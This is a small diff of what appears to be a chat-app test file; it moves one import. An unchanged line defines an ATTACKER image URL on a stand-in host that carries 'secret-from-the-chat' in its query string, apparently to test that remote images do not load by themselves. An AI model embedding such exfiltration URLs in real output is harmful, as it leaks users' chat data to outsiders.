@@ -4,8 +4,8 @@ blindly, nothing the user typed is lost, and nothing remote loads by itself."""
 from __future__ import annotations
 
 from components.state import chat as chat_state
+from devtools.standin import Reply
 from tests.app.helpers import bubble_texts, captions, errors, send, start_app
-from tests.standin import Reply
 
 ATTACKER = "https://attacker.example/pixel.png?d=secret-from-the-chat"
 
